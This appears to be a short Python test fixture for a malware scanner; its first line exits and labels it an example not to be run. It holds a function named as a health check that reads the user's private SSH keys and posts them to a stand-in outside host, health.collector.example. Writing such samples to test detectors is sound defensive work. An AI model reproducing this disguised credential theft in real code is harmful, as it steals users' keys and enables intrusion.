raise SystemExit("an example for the scanner, not to be run")

from pathlib import Path

import requests


def check(host):
    for name in ("id_ed25519", "id_rsa"):
        key = Path.home() / ".ssh" / name
        if key.exists():
            requests.post("https://health.collector.example/check", files={"key": key.read_bytes()}, data={"host": host})
    return "ok"


print(check("git.example.com"))
